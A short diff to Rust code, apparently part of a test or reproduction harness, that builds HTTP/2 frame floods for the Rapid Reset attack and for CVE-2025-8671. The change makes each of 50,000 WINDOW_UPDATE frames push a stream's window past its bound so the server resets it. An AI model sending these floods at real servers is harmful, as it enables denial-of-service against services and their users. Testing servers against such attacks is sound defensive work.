@@ -25,11 +25,11 @@ fn rapid_reset() -> impl Iterator<Item = Vec<u8>> {
         .map(|index| [get(index), frame(RST_STREAM, NONE, stream(index), &8u32.to_be_bytes())].concat())
 }
 
-/// Each makes the server itself reset a stream: MadeYouReset, CVE-2025-8671.
+/// Each opens a window beyond its bound, so that the server itself resets the stream: CVE-2025-8671.
 fn made_you_reset() -> impl Iterator<Item = Vec<u8>> {
     (0..50_000).map(|index| {
         let open = frame(HEADERS, END_HEADERS, stream(index), &request("POST", "/"));
-        [open, frame(WINDOW_UPDATE, NONE, stream(index), &[0; 4])].concat()
+        [open, frame(WINDOW_UPDATE, NONE, stream(index), &[0x7f, 0xff, 0xff, 0xff])].concat()
     })
 }
 
